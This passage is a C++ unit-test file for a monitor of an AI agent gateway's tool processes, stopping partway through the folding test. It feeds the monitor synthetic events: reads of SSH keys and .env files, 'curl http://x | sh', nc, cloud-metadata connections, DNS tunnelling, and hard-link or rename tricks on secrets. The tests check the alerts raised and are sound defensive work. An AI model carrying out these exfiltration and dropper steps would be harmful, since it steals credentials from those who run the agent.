// Policy engine: hand-built events against the shipped rules (and small rule texts), checking the
// alerts: rule, severity, action, role, evidence, folding of repeats and secret-exfiltration
// correlation.
#include "policy/engine.h"
#include "proto/timestamp.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "policy/rules.h"
#include "shipped_rules.h"

namespace clawfence::policy {
namespace {

using Events = std::vector<v1::Event>;
using Strings = std::vector<std::string>;

constexpr int64_t kSecond = 1'000'000'000;
constexpr int64_t kT0 = 1'700'000'000 * kSecond;  // any fixed unix time

constexpr uint32_t kGatewayPid = 100;
constexpr uint32_t kShellPid = 200;  // the gateway's child: the tool run

// ---- processes ---------------------------------------------------------------------------------

// Roles are the kernel's (process/roles.h): events carry them, the engine reads them.
v1::Ancestor ancestor(uint32_t pid, const std::string& comm, const std::string& exe, const std::string& role = "") {
  v1::Ancestor a;
  a.set_pid(pid);
  a.set_comm(comm);
  a.set_exe(exe);
  a.set_role(role);
  return a;
}

const v1::Ancestor kSystemd = ancestor(1, "systemd", "/usr/lib/systemd/systemd");
const v1::Ancestor kGatewayAncestor = ancestor(kGatewayPid, "openclaw-gatewa", "/usr/bin/node", "gateway");
const v1::Ancestor kShellAncestor = ancestor(kShellPid, "sh", "/usr/bin/dash", "tool");

// uid 0, so that `~` is /root.
v1::Process process(uint32_t pid, const std::string& comm, const std::string& exe, const Strings& argv,
                    const std::vector<v1::Ancestor>& lineage, const std::string& role = "") {
  v1::Process p;
  p.set_pid(pid);
  p.set_tid(pid);
  p.set_uid(0);
  p.set_comm(comm);
  p.set_exe(exe);
  p.set_role(role);
  for (const auto& a : argv) p.add_argv(a);
  if (!lineage.empty()) p.set_ppid(lineage.front().pid());
  for (const auto& a : lineage) *p.add_lineage() = a;
  return p;
}

v1::Process gateway() {
  return process(kGatewayPid, "openclaw-gatewa", "/usr/bin/node", {"openclaw-gateway"}, {kSystemd}, "gateway");
}

// The shell tool's `sh -c CMD`: the gateway's child.
v1::Process tool_shell() {
  return process(kShellPid, "sh", "/usr/bin/dash", {"sh", "-c", "cat ~/.ssh/id_rsa"}, {kGatewayAncestor, kSystemd},
                 "tool");
}

// A program the tool's shell started: the gateway's grandchild.
v1::Process tool_child(uint32_t pid = 300, const std::string& comm = "cat") {
  return process(pid, comm, "/usr/bin/" + comm, {comm}, {kShellAncestor, kGatewayAncestor, kSystemd}, "tool");
}

Engine engine_for(const std::string& text);  // a small rule set, checked to load

// ---- events ------------------------------------------------------------------------------------

int64_t to_ns(const google::protobuf::Timestamp& t) { return t.seconds() * kSecond + t.nanos(); }

v1::Event event(v1::Event::Kind kind, int64_t ns, const v1::Process& p) {
  v1::Event ev;
  ev.set_kind(kind);
  ev.mutable_time()->set_seconds(ns / kSecond);
  ev.mutable_time()->set_nanos(static_cast<int32_t>(ns % kSecond));
  *ev.mutable_process() = p;
  return ev;
}

// An open that returned `result` (an fd, or -errno).
v1::Event open_file(const v1::Process& p, const std::string& path, int64_t ns = kT0, int32_t result = 3,
                    const std::string& access = "read") {
  v1::Event ev = event(v1::Event::FILE, ns, p);
  v1::FileOp* f = ev.mutable_file();
  f->set_op(v1::FileOp::OPEN);
  f->set_path(path);
  f->set_access(access);
  f->set_result(result);
  if (result < 0) f->set_error(result == -2 ? "ENOENT" : "EACCES");
  f->set_syscall("openat");
  return ev;
}

v1::Event connect(const v1::Process& p, const std::string& address, uint32_t port, const std::string& hostname = "",
                  int64_t ns = kT0) {
  v1::Event ev = event(v1::Event::NET, ns, p);
  v1::NetOp* n = ev.mutable_net();
  n->set_op(v1::NetOp::CONNECT);
  n->set_family(address.find(':') == std::string::npos ? "ipv4" : "ipv6");
  n->set_protocol("tcp");
  n->set_address(address);
  n->set_port(port);
  n->set_hostname(hostname);
  n->set_result(0);
  n->set_syscall("connect");
  return ev;
}

v1::Event exec(const v1::Process& p, const std::string& filename, const Strings& argv, int64_t ns = kT0) {
  v1::Event ev = event(v1::Event::EXEC, ns, p);
  ev.mutable_exec()->set_filename(filename);
  for (const auto& a : argv) ev.mutable_exec()->add_argv(a);
  return ev;
}

// ---- alerts ------------------------------------------------------------------------------------

// The rule ids of the alerts, sorted.
Strings ids(const Events& alerts) {
  Strings out;
  for (const auto& a : alerts) out.push_back(a.alert().rule_id());
  std::sort(out.begin(), out.end());
  return out;
}

Events with_rule(const Events& alerts, const std::string& id) {
  Events out;
  for (const auto& a : alerts)
    if (a.alert().rule_id() == id) out.push_back(a);
  return out;
}

// The one alert of rule `id` (a failure, and an empty alert, if there is not exactly one).
v1::Event the_alert(const Events& alerts, const std::string& id) {
  Events hits = with_rule(alerts, id);
  EXPECT_EQ(hits.size(), 1u) << id << " in " << ::testing::PrintToString(ids(alerts));
  return hits.empty() ? v1::Event() : hits.front();
}

class EngineTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    const std::string path = testing::shipped_rules();
    ASSERT_FALSE(path.empty()) << "rules/openclaw.yaml not found; set CLAWFENCE_SRC to the repository root";
    LoadResult r = load_rules(path);
    for (const auto& e : r.errors) ADD_FAILURE() << e.to_string();
    ASSERT_TRUE(r.ok());
    shipped_ = new RuleSet(std::move(r.rules));
  }
  static void TearDownTestSuite() {
    delete shipped_;
    shipped_ = nullptr;
  }
  void SetUp() override {
    ASSERT_NE(shipped_, nullptr);
    engine_ = std::make_unique<Engine>(*shipped_);
  }

  Events eval(const v1::Event& ev) {
    Events out;
    engine_->evaluate(ev, out);
    return out;
  }
  Events tick(int64_t ns) {
    Events out;
    engine_->tick(ns, out);
    return out;
  }

  // A tool process (the shell's child) with a pid not used before, so that what it raises is
  // never folded into an earlier alert.
  // A tool run of its own (the broker's child), so that no fold window of another test step
  // holds its alerts.
  v1::Process fresh(const std::string& comm = "cat") {
    const uint32_t pid = next_pid_++;
    return process(pid, comm, "/usr/bin/" + comm, {comm}, {kGatewayAncestor, kSystemd}, "tool");
  }

  static RuleSet* shipped_;
  std::unique_ptr<Engine> engine_;
  uint32_t next_pid_ = 1000;
};

RuleSet* EngineTest::shipped_ = nullptr;

// ---- files -------------------------------------------------------------------------------------

TEST_F(EngineTest, ToolReadingAnSshKeyRaisesSshKeys) {
  const v1::Event ev = open_file(tool_child(), "/root/.ssh/id_rsa");
  const Events out = eval(ev);
  const v1::Event a = the_alert(out, "ssh-keys");
  EXPECT_EQ(a.kind(), v1::Event::ALERT);
  EXPECT_EQ(to_ns(a.time()), kT0);
  EXPECT_EQ(a.process().pid(), 300u);
  EXPECT_EQ(a.process().comm(), "cat");
  const v1::Alert& al = a.alert();
  EXPECT_EQ(al.severity(), "critical");
  EXPECT_EQ(al.action(), "kill");
  EXPECT_EQ(al.outcome(), "alerted");
  EXPECT_EQ(al.description(), "access to SSH keys or configuration");
  EXPECT_EQ(al.role(), "tool");
  EXPECT_EQ(al.mode(), "monitor");
  EXPECT_EQ(al.count(), 1u);
  EXPECT_FALSE(al.folded());
  EXPECT_EQ(al.tool_pid(), kShellPid);
  EXPECT_EQ(to_ns(al.first_seen()), kT0);
  EXPECT_EQ(to_ns(al.last_seen()), kT0);
  EXPECT_EQ(al.evidence().path(), "/root/.ssh/id_rsa");
  EXPECT_EQ(al.evidence().access(), "read");
  ASSERT_TRUE(al.evidence().has_result());
  EXPECT_EQ(al.evidence().result(), 3);
  EXPECT_TRUE(al.related_rule_ids().empty());
  EXPECT_EQ(engine_->stats().evaluated, 1u);
  EXPECT_EQ(engine_->stats().alerts, out.size());
}

// The shipped rules overlap: id_rsa is also a private key anywhere, and ~/.ssh is outside a
// tool's scope. Each matching rule raises its own alert.
TEST_F(EngineTest, SshKeyAlsoRaisesPrivateKeysAndScope) {
  EXPECT_EQ(ids(eval(open_file(fresh(), "/root/.ssh/id_rsa"))),
            (Strings{"private-keys", "ssh-keys", "tool-out-of-scope"}));
  EXPECT_EQ(ids(eval(open_file(fresh(), "/root/.ssh/config"))), (Strings{"ssh-keys", "tool-out-of-scope"}));
  // The gateway has no scope, but the key rules are for every role.
  Events gw = eval(open_file(gateway(), "/root/.ssh/config"));
  EXPECT_EQ(ids(gw), Strings{"ssh-keys"});
  EXPECT_EQ(the_alert(gw, "ssh-keys").alert().role(), "gateway");
  EXPECT_EQ(the_alert(gw, "ssh-keys").alert().tool_pid(), 0u);  // not a tool run
}

TEST_F(EngineTest, TheToolRunItselfIsATool) {
  Events out = eval(open_file(tool_shell(), "/root/.ssh/config"));
  const v1::Event a = the_alert(out, "ssh-keys");
  EXPECT_EQ(a.alert().role(), "tool");
  EXPECT_EQ(a.alert().tool_pid(), kShellPid);
}

TEST_F(EngineTest, DotenvIsForToolsNotTheGateway) {
  EXPECT_TRUE(eval(open_file(gateway(), "/root/.openclaw/.env")).empty());
  Events out = eval(open_file(tool_child(), "/root/.openclaw/.env"));
  EXPECT_EQ(ids(out), (Strings{"dotenv", "openclaw-credentials", "tool-out-of-scope"}));
  const v1::Event a = the_alert(out, "dotenv");
  EXPECT_EQ(a.alert().severity(), "error");
  EXPECT_EQ(a.alert().action(), "block");
  EXPECT_EQ(a.alert().role(), "tool");
  EXPECT_EQ(a.alert().evidence().path(), "/root/.openclaw/.env");
  // Any .env, in the workspace too (which is in scope).
  EXPECT_EQ(ids(eval(open_file(fresh(), "/root/.openclaw/workspace/app/.env.local"))), Strings{"dotenv"});
}

TEST_F(EngineTest, ToolScope) {
  Events out = eval(open_file(tool_child(), "/etc/machine-id"));
  ASSERT_EQ(ids(out), Strings{"tool-out-of-scope"});
  EXPECT_EQ(out[0].alert().severity(), "warning");
  EXPECT_EQ(out[0].alert().action(), "alert");
  EXPECT_EQ(out[0].alert().role(), "tool");
  EXPECT_EQ(out[0].alert().evidence().path(), "/etc/machine-id");
  EXPECT_EQ(out[0].alert().evidence().access(), "read");

  // What every exec-tool command and the programs it runs read (checked on the real gateway).
  for (const char* in_scope : {"/tmp/x", "/tmp/a/b/c", "/root/.openclaw/workspace/notes.md", "/usr/lib/libc.so.6",
                               "/etc/resolv.conf", "/etc/ssl/certs/ca-certificates.crt", "/root/.cache/x", "/dev/null",
                               "/root/.openclaw/cache/shell-snapshots/ab12.sh", "/proc/filesystems", "/etc/hostname"})
    EXPECT_TRUE(eval(open_file(fresh(), in_scope)).empty()) << in_scope;
  // A failed open is a probe, not a read.
  EXPECT_TRUE(eval(open_file(fresh(), "/etc/machine-id", kT0, -2)).empty());
  EXPECT_TRUE(eval(open_file(fresh(), "/opt/x", kT0, -13)).empty());
  // Scope is for tools only.
  EXPECT_TRUE(eval(open_file(gateway(), "/etc/machine-id")).empty());
  // Writing is judged by its own, narrower scope: the workspace and temporary files.
  v1::Event unlink = open_file(fresh(), "/etc/hostname");
  unlink.mutable_file()->set_op(v1::FileOp::UNLINK);
  unlink.mutable_file()->set_result(0);
  EXPECT_EQ(ids(eval(unlink)), Strings{"tool-write-out-of-scope"});
  v1::Event write = open_file(fresh(), "/root/.openclaw/workspace/notes.txt", kT0, 3, "write");
  write.mutable_file()->add_flags("O_CREAT");
  EXPECT_TRUE(eval(write).empty());
  EXPECT_EQ(ids(eval(open_file(fresh(), "/root/.config/x.conf", kT0, 3, "write"))), Strings{"tool-write-out-of-scope"});
}

// A process's own /proc/PID is /proc/self: the kernel walks /proc/self/... to /proc/PID/....
TEST_F(EngineTest, OwnProcIsProcSelf) {
  const v1::Process p = fresh();
  const std::string own = "/proc/" + std::to_string(p.pid());
  EXPECT_TRUE(eval(open_file(p, own + "/maps")).empty());
  v1::Event adj = open_file(p, own + "/oom_score_adj", kT0, 3, "write");
  EXPECT_TRUE(eval(adj).empty());
  // another process's is not
  EXPECT_EQ(ids(eval(open_file(fresh(), "/proc/1/maps"))), Strings{"tool-out-of-scope"});
  EXPECT_EQ(ids(eval(open_file(fresh(), own + "0/maps"))), Strings{"tool-out-of-scope"});
  // and /proc/self names in deny rules hold for it
  EXPECT_EQ(ids(eval(open_file(p, own + "/environ", kT0 + kSecond))), Strings{"proc-environ"});
  EXPECT_EQ(proc_self_alias("/proc/42", 42), "/proc/self");
  EXPECT_EQ(proc_self_alias("/proc/42/task/42/comm", 42), "/proc/self/task/42/comm");
  EXPECT_EQ(proc_self_alias("/proc/420/maps", 42), "");
  EXPECT_EQ(proc_self_alias("/proc/4", 42), "");
}

// A failed open read nothing: it is worth knowing, at info, and arms no correlation.
TEST_F(EngineTest, FailedOpenOfASecretIsAnAttemptAtInfo) {
  Events out = eval(open_file(tool_child(), "/etc/shadow", kT0, -13, "read"));
  const v1::Event a = the_alert(out, "shadow");
  ASSERT_TRUE(a.alert().evidence().has_result());
  EXPECT_EQ(a.alert().evidence().result(), -13);
  EXPECT_EQ(a.alert().evidence().error(), "EACCES");
  EXPECT_EQ(a.alert().severity(), "info");
  EXPECT_EQ(ids(out), Strings{"shadow"});  // no scope alert for a failed open
  // npm probing a missing ~/.npmrc, then the tool run connecting out: no secret-exfiltration
  eval(open_file(tool_child(301, "node"), "/root/.ssh/config", kT0, -2));
  EXPECT_EQ(ids(eval(connect(tool_child(302, "curl"), "203.0.113.7", 443, "", kT0 + kSecond))),
            Strings{"egress-unapproved"});
}

// access: narrows a rule to what the operation does to the file.
TEST(EngineFiles, AccessNarrowsARule) {
  Engine e = engine_for(R"(version: 1
roles:
  gateway: { root: true }
files:
  deny:
    - { id: writes, path: ["/etc/app/**"], access: [write, create], severity: error }
    - { id: reads, path: ["/etc/app/**"], access: read, severity: warning }
)");
  // one process each: a role that is not final folds repeats per process
  uint32_t pid = 2;
  auto p = [&] { return process(pid++, "sh", "/bin/sh", {"sh"}, {}, "gateway"); };
  Events out;
  e.evaluate(open_file(p(), "/etc/app/a"), out);
  EXPECT_EQ(ids(out), Strings{"reads"});
  out.clear();
  e.evaluate(open_file(p(), "/etc/app/b", kT0, 3, "write"), out);
  EXPECT_EQ(ids(out), Strings{"writes"});
  out.clear();
  e.evaluate(open_file(p(), "/etc/app/c", kT0, 3, "read_write"), out);
  EXPECT_EQ(ids(out), (Strings{"reads", "writes"}));
  out.clear();
  v1::Event created = open_file(p(), "/etc/app/d", kT0, 3, "read");
  created.mutable_file()->add_flags("O_CREAT");
  e.evaluate(created, out);
  EXPECT_EQ(ids(out), (Strings{"reads", "writes"}));
  out.clear();
  v1::Event ren = event(v1::Event::FILE, kT0, p());
  ren.mutable_file()->set_op(v1::FileOp::RENAME);
  ren.mutable_file()->set_path("/tmp/x");
  ren.mutable_file()->set_new_path("/etc/app/e");
  ren.mutable_file()->set_result(0);
  e.evaluate(ren, out);
  EXPECT_EQ(ids(out), Strings{"writes"});
}

// A unix socket's connect is `connect` access of the peer's socket file: only rules that name
// it (or no access at all) see it, and the evidence says how.
TEST(EngineFiles, AUnixConnectIsConnectAccess) {
  Engine e = engine_for(R"(version: 1
roles:
  gateway: { root: true }
files:
  deny:
    - { id: daemons, path: ["/run/docker.sock"], access: connect, severity: critical }
    - { id: reads, path: ["/run/**"], access: read, severity: warning }
    - { id: any, path: ["/run/docker.sock"], severity: info }
)");
  v1::Event c = event(v1::Event::FILE, kT0, process(2, "python3", "/usr/bin/python3", {"python3"}, {}, "gateway"));
  c.mutable_file()->set_op(v1::FileOp::CONNECT);
  c.mutable_file()->set_path("/run/docker.sock");
  c.mutable_file()->set_access("connect");
  c.mutable_file()->set_result(3);
  Events out;
  e.evaluate(c, out);
  EXPECT_EQ(ids(out), (Strings{"any", "daemons"}));
  for (const auto& a : out)
    if (a.kind() == v1::Event::ALERT) {
      EXPECT_EQ(a.alert().evidence().via(), "unix socket");
      EXPECT_EQ(a.alert().evidence().access(), "connect");
    }
}

TEST_F(EngineTest, RenameIsCheckedOnBothPaths) {
  v1::Event ev = event(v1::Event::FILE, kT0, tool_child());
  ev.mutable_file()->set_op(v1::FileOp::RENAME);
  ev.mutable_file()->set_path("/tmp/k");
  ev.mutable_file()->set_new_path("/root/.ssh/authorized_keys");
  ev.mutable_file()->set_result(0);
  Events out = eval(ev);
  EXPECT_EQ(the_alert(out, "ssh-keys").alert().evidence().path(), "/root/.ssh/authorized_keys");
  EXPECT_EQ(ids(out), (Strings{"ssh-keys", "tool-write-out-of-scope"}));
}

// A rename of a directory above what a rule protects moves the protected files to names no rule
// has (`mv ~/.openclaw ~/.cache/oc`, then read credentials/ there): the rules of what it holds
// alert on the rename, naming both paths; so does a whole directory renamed in over a protected one.
TEST_F(EngineTest, RenamingADirectoryHoldingProtectedFiles) {
  auto rename = [&](const std::string& from, const std::string& to) {
    v1::Event ev = event(v1::Event::FILE, kT0, fresh("mv"));
    ev.mutable_file()->set_op(v1::FileOp::RENAME);
    ev.mutable_file()->set_path(from);
    ev.mutable_file()->set_new_path(to);
    ev.mutable_file()->set_result(0);
    return eval(ev);
  };
  Events out = rename("/root/.openclaw", "/root/.cache/oc");
  const v1::Event& a = the_alert(out, "openclaw-credentials");
  EXPECT_EQ(a.alert().evidence().path(), "/root/.openclaw");
  EXPECT_EQ(a.alert().evidence().new_path(), "/root/.cache/oc");
  EXPECT_EQ(a.alert().evidence().via(), "rename of a directory holding protected files");
  EXPECT_FALSE(the_alert(rename("/root/.ssh", "/tmp/s"), "ssh-keys").alert().rule_id().empty());
  // a workspace swapped in over the one OpenClaw reads its memory and skills from
  EXPECT_FALSE(the_alert(rename("/tmp/evil", "/root/.openclaw/workspace"), "persistence").alert().rule_id().empty());
  // a directory beside them is not one holding them
  for (const auto& id : ids(rename("/root/.openclaw-old", "/tmp/o"))) EXPECT_NE(id, "openclaw-credentials");
}

// A hard link to a secret: the secret's own path is judged (the later open is under the link's).
TEST_F(EngineTest, HardLinkToASecretRaisesItsRule) {
  v1::Event ev = event(v1::Event::FILE, kT0, tool_child());
  ev.mutable_file()->set_op(v1::FileOp::LINK);
  ev.mutable_file()->set_path("/root/.ssh/id_rsa");
  ev.mutable_file()->set_new_path("/tmp/innocent");
  ev.mutable_file()->set_result(0);
  Events out = eval(ev);
  const v1::Alert a = the_alert(out, "ssh-keys").alert();
  EXPECT_EQ(a.evidence().path(), "/root/.ssh/id_rsa");
  EXPECT_EQ(a.evidence().new_path(), "/tmp/innocent");
  EXPECT_EQ(a.evidence().via(), "hard link");
  EXPECT_EQ(a.outcome(), "alerted");

  // The link guard's kill, from the kernel: the alert carries it.
  v1::Event killed = event(v1::Event::FILE, kT0, fresh());
  killed.mutable_file()->set_op(v1::FileOp::LINK);
  killed.mutable_file()->set_path("/root/.ssh/id_rsa");
  killed.mutable_file()->set_resolved(true);
  killed.mutable_enforcement()->set_rule_id("ssh-keys");
  killed.mutable_enforcement()->set_verdict("killed");
  killed.mutable_enforcement()->set_mechanism("SIGKILL at link (kprobe may_linkat)");
  const v1::Alert k = the_alert(eval(killed), "ssh-keys").alert();
  EXPECT_EQ(k.outcome(), "killed");
  EXPECT_EQ(k.evidence().via(), "hard link");

  // A link of an ordinary file raises nothing (no scope rule judges links).
  v1::Event plain = event(v1::Event::FILE, kT0, tool_child(302));
  plain.mutable_file()->set_op(v1::FileOp::LINK);
  plain.mutable_file()->set_path("/tmp/a");
  plain.mutable_file()->set_new_path("/tmp/b");
  plain.mutable_file()->set_result(0);
  EXPECT_TRUE(eval(plain).empty());
}

TEST_F(EngineTest, ProcEnviron) {
  EXPECT_EQ(ids(eval(open_file(fresh(), "/proc/1/environ"))), (Strings{"proc-environ", "tool-out-of-scope"}));
  EXPECT_TRUE(eval(open_file(fresh(), "/proc/self/status")).empty());
}

// ---- exec --------------------------------------------------------------------------------------

TEST_F(EngineTest, ToolRunningCurlRaisesExfilTools) {
  const v1::Process curl = tool_child(301, "curl");
  Events out = eval(exec(curl, "/usr/bin/curl", {"curl", "-o", "/tmp/x", "https://example.com/x"}));
  ASSERT_EQ(ids(out), Strings{"exfil-tools"});
  const v1::Alert& al = out[0].alert();
  EXPECT_EQ(al.severity(), "warning");
  EXPECT_EQ(al.action(), "alert");
  EXPECT_EQ(al.role(), "tool");
  EXPECT_EQ(al.tool_pid(), kShellPid);
  EXPECT_EQ(al.evidence().exe(), "/usr/bin/curl");
  EXPECT_EQ(Strings(al.evidence().argv().begin(), al.evidence().argv().end()),
            (Strings{"curl", "-o", "/tmp/x", "https://example.com/x"}));
  // By basename wherever it lives.
  EXPECT_EQ(ids(eval(exec(fresh("nc"), "/opt/bin/nc", {"nc", "x", "1"}))), Strings{"exfil-tools"});
  // exfil-tools is for tools: the gateway running curl is not an alert.
  EXPECT_TRUE(eval(exec(gateway(), "/usr/bin/curl", {"curl", "https://example.com"})).empty());
  EXPECT_TRUE(eval(exec(tool_child(303, "ls"), "/usr/bin/ls", {"ls", "-l"})).empty());
}

// `ld.so PROGRAM`: the kernel execs the loader, the rules judge the program too.
TEST_F(EngineTest, ExecThroughTheDynamicLoaderJudgesTheProgram) {
  const std::string ld = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";
  const Strings argv = {"/lib64/ld-linux-x86-64.so.2", "--library-path", "/opt/lib", "/usr/bin/curl", "http://x"};
  Events out = eval(exec(tool_child(310, "ld-linux-x86-6"), ld, argv));
  ASSERT_EQ(ids(out), Strings{"exfil-tools"});
  const v1::Evidence& e = out[0].alert().evidence();
  EXPECT_EQ(e.exe(), ld);
  EXPECT_EQ(e.via(), "dynamic loader");
  EXPECT_EQ(e.program(), "/usr/bin/curl");
  EXPECT_EQ(Strings(e.argv().begin(), e.argv().end()), argv);
  // a relative program is judged as given: a name rule still sees its basename
  EXPECT_EQ(ids(eval(exec(fresh("ld.so"), "/lib/ld.so", {"ld.so", "--", "bin/nc", "x", "1"}))),
            Strings{"exfil-tools"});
  // --argv0's value is not the program
  EXPECT_TRUE(eval(exec(tool_child(312, "ld-musl-x86_64"), "/lib/ld-musl-x86_64.so.1",
                        {"ld-musl-x86_64.so.1", "--argv0", "curl", "/usr/bin/ls"}))
                  .empty());
  // not a loader: its first argument is only an argument
  EXPECT_TRUE(eval(exec(tool_child(313, "env"), "/usr/bin/env", {"env", "/usr/bin/curl"})).empty());
}

TEST_F(EngineTest, PipeToShellRaisesDropperPatterns) {
  Events out = eval(exec(tool_shell(), "/usr/bin/dash", {"sh", "-c", "curl http://x | sh"}));
  ASSERT_EQ(ids(out), Strings{"dropper-patterns"});
  EXPECT_EQ(out[0].alert().severity(), "error");
  EXPECT_EQ(out[0].alert().role(), "tool");
  EXPECT_EQ(out[0].alert().evidence().exe(), "/usr/bin/dash");
  // dropper-patterns is for tools: OpenClaw's own shell snapshot runs `bash -i` (a helper), and
  // anything else the gateway runs is a tool.
  EXPECT_TRUE(eval(exec(gateway(), "/bin/bash", {"bash", "-c", "echo aGk= | base64 -d"})).empty());
  // curl with a pipe is both.
  EXPECT_EQ(ids(eval(exec(fresh("curl"), "/usr/bin/curl", {"curl", "-s", "http://x", "|sh"}))),
            (Strings{"dropper-patterns", "exfil-tools"}));
}

// ---- network -----------------------------------------------------------------------------------

TEST_F(EngineTest, CloudMetadataIsDeniedForEveryone) {
  Events out = eval(connect(tool_child(), "169.254.169.254", 80));
  ASSERT_EQ(ids(out), Strings{"cloud-metadata"});
  const v1::Alert& al = out[0].alert();
  EXPECT_EQ(al.severity(), "critical");
  EXPECT_EQ(al.action(), "block");
  EXPECT_EQ(al.role(), "tool");
  EXPECT_EQ(al.evidence().address(), "169.254.169.254");
  EXPECT_EQ(al.evidence().port(), 80u);
  EXPECT_EQ(al.evidence().protocol(), "tcp");
  EXPECT_EQ(ids(eval(connect(gateway(), "169.254.169.254", 80))), Strings{"cloud-metadata"});
  EXPECT_EQ(ids(eval(connect(fresh(), "fd00:ec2::254", 80))), Strings{"cloud-metadata"});
  EXPECT_EQ(ids(eval(connect(fresh(), "::ffff:169.254.169.254", 80))), Strings{"cloud-metadata"});
}

TEST_F(EngineTest, UnapprovedAddress) {
  Events out = eval(connect(tool_child(), "203.0.113.7", 443));
  ASSERT_EQ(ids(out), Strings{"egress-unapproved"});
  const v1::Alert& al = out[0].alert();
  EXPECT_EQ(al.severity(), "error");
  EXPECT_EQ(al.action(), "block");
  EXPECT_EQ(al.description(), "connection to an endpoint no rule approves");
  EXPECT_EQ(al.evidence().address(), "203.0.113.7");
  EXPECT_EQ(al.evidence().port(), 443u);
  EXPECT_TRUE(al.evidence().hostname().empty());
  // The gateway too: the default is deny for every role.
  EXPECT_EQ(ids(eval(connect(gateway(), "203.0.113.7", 443))), Strings{"egress-unapproved"});
}

// Loopback is approved for the gateway's port only, and only for OpenClaw's own processes: a
// tool reaching the gateway's API could have the gateway's own tools act for it. Other local
// services are worth a look.
TEST_F(EngineTest, Loopback) {
  EXPECT_TRUE(eval(connect(gateway(), "127.0.0.1", 18789)).empty());
  EXPECT_TRUE(eval(connect(gateway(), "::1", 18789)).empty());
  EXPECT_EQ(ids(eval(connect(fresh(), "127.0.0.1", 18789))), Strings{"egress-unapproved"});
  EXPECT_EQ(ids(eval(connect(fresh(), "127.1.2.3", 1))), Strings{"egress-unapproved"});
  EXPECT_EQ(ids(eval(connect(fresh(), "::1", 8080))), Strings{"egress-unapproved"});
}

// A tool run asking the resolver for many distinct names under one domain, or for a name with a
// long label, is sending data out in the names: one dns-tunnel alert; a handful of names, or the
// gateway's lookups, are not.
TEST_F(EngineTest, DnsTunnelling) {
  auto answer = [&](const v1::Process& p, const std::string& name, int64_t ns) {
    v1::Event ev = event(v1::Event::DNS, ns, p);
    ev.mutable_dns()->set_query(name);
    ev.mutable_dns()->set_rcode("NXDOMAIN");
    return ev;
  };
  const v1::Process t = tool_child(300, "dig");
  Events got;
  for (int i = 0; i < 40; ++i)
    for (auto& a : eval(answer(t, "c" + std::to_string(i) + ".x.tunnel.example.com", kT0 + i * kSecond / 10)))
      got.push_back(a);
  EXPECT_EQ(ids(got), Strings{"dns-tunnel"});
  EXPECT_EQ(got.at(0).alert().evidence().hostname(), "c30.x.tunnel.example.com");
  EXPECT_NE(got.at(0).alert().evidence().via().find("31 distinct names under example.com"), std::string::npos)
      << got.at(0).alert().evidence().via();
  // a long label is enough on its own
  const std::string chunk(60, 'a');
  EXPECT_EQ(ids(eval(answer(fresh("dig"), chunk + ".t.example.org", kT0))), Strings{"dns-tunnel"});
  // the same few names again and again are not a tunnel; nor is the gateway
  {
    const v1::Process npm = fresh("npm");
    for (int i = 0; i < 100; ++i) EXPECT_TRUE(eval(answer(npm, "registry.npmjs.org", kT0 + i)).empty());
  }
  for (int i = 0; i < 40; ++i)
    EXPECT_TRUE(eval(answer(gateway(), "n" + std::to_string(i) + ".slack.com", kT0 + i)).empty());
}

// DNS goes to the host's resolvers only (`cidr: [resolvers]`): port 53 anywhere else is a way out.
TEST_F(EngineTest, Dns) {
  const auto servers = policy::resolv_conf_nameservers();
  for (const auto& s : servers) {
    if (s == "8.8.8.8" || s == "2001:4860:4860::8888") GTEST_SKIP() << "this host resolves through " << s;
    v1::Event ev = connect(fresh(), s, 53);
    ev.mutable_net()->set_protocol("udp");
    EXPECT_TRUE(eval(ev).empty()) << s;
    EXPECT_EQ(ids(eval(connect(fresh(), s, 54))), Strings{"egress-unapproved"}) << s;
  }
  v1::Event ev = connect(fresh(), "8.8.8.8", 53);
  ev.mutable_net()->set_protocol("udp");
  EXPECT_EQ(ids(eval(ev)), Strings{"egress-unapproved"});
  EXPECT_EQ(ids(eval(connect(fresh(), "2001:4860:4860::8888", 53))), Strings{"egress-unapproved"});
  EXPECT_EQ(ids(eval(connect(fresh(), "127.0.0.2", 53))), Strings{"egress-unapproved"});
}

TEST_F(EngineTest, AllowedHostOnItsPortOnly) {
  EXPECT_TRUE(eval(connect(fresh(), "162.159.140.245", 443, "api.openai.com")).empty());
  EXPECT_TRUE(eval(connect(gateway(), "162.159.140.245", 443, "api.openai.com")).empty());
  EXPECT_TRUE(eval(connect(fresh(), "162.159.140.245", 443, "API.OpenAI.com")).empty());
  Events out = eval(connect(fresh(), "162.159.140.245", 80, "api.openai.com"));
  ASSERT_EQ(ids(out), Strings{"egress-unapproved"});
  EXPECT_EQ(out[0].alert().evidence().hostname(), "api.openai.com");
  EXPECT_EQ(out[0].alert().evidence().port(), 80u);
  // A name that only looks like it.
  EXPECT_EQ(ids(eval(connect(fresh(), "203.0.113.9", 443, "api.openai.com.evil.example"))),
            Strings{"egress-unapproved"});
}

TEST_F(EngineTest, ChatPlatformsAreForTheGatewayOnly) {
  EXPECT_TRUE(eval(connect(gateway(), "34.1.2.3", 443, "x.slack.com")).empty());
  EXPECT_TRUE(eval(connect(gateway(), "34.1.2.3", 443, "slack.com")).empty());
  Events out = eval(connect(fresh(), "34.1.2.3", 443, "x.slack.com"));
  ASSERT_EQ(ids(out), Strings{"egress-unapproved"});
  EXPECT_EQ(out[0].alert().role(), "tool");
}

// ---- folding -----------------------------------------------------------------------------------

TEST_F(EngineTest, RepeatsFoldIntoOneAlertAndASummary) {
  const v1::Process p = tool_child();
  Events first = with_rule(eval(open_file(p, "/root/.ssh/id_rsa", kT0)), "ssh-keys");
  ASSERT_EQ(first.size(), 1u);
  EXPECT_EQ(first[0].alert().count(), 1u);
  EXPECT_FALSE(first[0].alert().folded());
  for (int i = 1; i < 5; ++i)
    EXPECT_TRUE(with_rule(eval(open_file(p, "/root/.ssh/id_rsa", kT0 + i * kSecond)), "ssh-keys").empty()) << i;
  EXPECT_EQ(engine_->stats().evaluated, 5u);

  // Within the window, nothing yet.
  EXPECT_TRUE(with_rule(tick(kT0 + 59 * kSecond), "ssh-keys").empty());
  // When it is over: one summary of the four repeats.
  Events summary = with_rule(tick(kT0 + 60 * kSecond), "ssh-keys");
  ASSERT_EQ(summary.size(), 1u);
  const v1::Alert& s = summary[0].alert();
  EXPECT_EQ(s.count(), 4u);
  EXPECT_TRUE(s.folded());
  EXPECT_EQ(to_ns(s.first_seen()), kT0);
  EXPECT_EQ(to_ns(s.last_seen()), kT0 + 4 * kSecond);
